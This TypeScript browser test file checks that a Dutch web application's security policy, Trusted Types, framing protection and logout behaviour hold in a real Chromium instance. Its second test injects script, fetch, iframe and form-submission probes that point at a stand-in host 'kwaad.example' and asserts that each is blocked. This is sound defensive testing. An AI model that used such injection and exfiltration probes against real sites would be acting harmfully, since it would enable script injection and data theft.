import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium.js';
import { visit } from './browser.js';
import { type Demo, startDemo } from './demo.js';

/** A Monday morning. */
const NOW = Date.parse('2026-11-23T09:00:00+01:00');
/** Pages with a script that does something, and pages without. */
const PAGES = [
  '/',
  '/signalen/nieuw',
  '/werkvoorraad',
  '/register',
  '/logboek',
  '/beveiliging',
  '/anoniem',
  '/anoniem/indienen',
];

let demo: Demo;
let browser: Browser;
beforeAll(async () => {
  demo = await startDemo(NOW);
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  await demo?.stop();
});

/** What the browser says was against the policy of the page, since it was opened. */
async function watching(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(`
    globalThis.told = [];
    addEventListener('securitypolicyviolation', (event) => told.push(event.effectiveDirective));
  `);
  return () => page.evaluate('globalThis.told');
}

describe('the policy of every page, in a real browser', () => {
  it('is kept by the pages themselves, which stand apart from every other site', async () => {
    const visitor = await visit(browser, demo.url);
    const told = await watching(visitor.page);
    await visitor.logIn('nadia.bakker');
    for (const path of PAGES) {
      await visitor.page.goto(path);
      await visitor.page.waitForLoadState('networkidle');
      expect([path, await visitor.page.evaluate('globalThis.crossOriginIsolated')]).toEqual([path, true]);
      expect([path, await told()]).toEqual([path, []]);
    }
    await visitor.leave();
  });

  it('refuses whoever would make HTML, a script or a style out of text, or send it elsewhere', async () => {
    const context = await browser.newContext({ baseURL: demo.url });
    context.setDefaultTimeout(60_000);
    const page = await context.newPage();
    const told = await watching(page);
    await page.goto('/inloggen');
    const element = (code: string) =>
      page.evaluate(code).then(
        () => 'done',
        (error: Error) => /(\w+Error)/.exec(error.message)?.[1] ?? 'x',
      );
    expect(await element('document.body.innerHTML = "<b>x</b>"')).toBe('TypeError');
    expect(await element('document.body.insertAdjacentHTML("beforeend", "<b>x</b>")')).toBe('TypeError');
    expect(await element('document.write("<b>x</b>")')).toBe('TypeError');
    expect(await element('document.createElement("script").text = "globalThis.in = 1"')).toBe('TypeError');
    expect(await element('document.createElement("script").src = "https://kwaad.example/x.js"')).toBe('TypeError');
    expect(await element('trustedTypes.createPolicy("een", { createHTML: (text) => text })')).toBe('TypeError');
    expect(await element('fetch("https://kwaad.example/")')).toBe('TypeError');
    await page.evaluate(`
      document.body.setAttribute('style', 'color: red');
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://kwaad.example/' }));
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://kwaad.example/x.png' }));
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://kwaad.example/' }));
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }));
      const form = Object.assign(document.createElement('form'), { action: 'https://kwaad.example/', method: 'post' });
      document.body.append(form);
      form.submit();
    `);
    await expect
      .poll(async () => [...new Set(await told())].sort())
      .toEqual(
        ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'require-trusted-types-for']
          .concat('style-src-attr', 'style-src-elem', 'trusted-types')
          .sort(),
      );
    expect(await page.evaluate('globalThis.in')).toBeUndefined();
    expect(page.url()).toBe(`${demo.url}/inloggen`);
    await context.close();
  });

  it('lets no other page put it in a frame', async () => {
    const context = await browser.newContext({ baseURL: demo.url });
    context.setDefaultTimeout(60_000);
    const page = await context.newPage();
    await page.setContent(`<iframe src="${demo.url}/inloggen"></iframe>`);
    await page.waitForLoadState('networkidle');
    const inside = page.frames()[1];
    expect(await inside?.locator('form').count()).toBe(0);
    await context.close();
  });
});

describe('after logging out', () => {
  it('going back in the browser shows nothing of who was there', async () => {
    const visitor = await visit(browser, demo.url);
    await visitor.logIn('nadia.bakker');
    await visitor.page.goto('/werkvoorraad');
    expect(await visitor.page.textContent('main')).toContain('Werkvoorraad');
    await visitor.logOut();
    await visitor.page.goBack();
    await visitor.page.waitForLoadState('load');
    expect(new URL(visitor.page.url()).pathname).toBe('/inloggen');
    expect(await visitor.page.locator('header').textContent()).not.toContain('Nadia Bakker');
    await visitor.leave();
  });
});
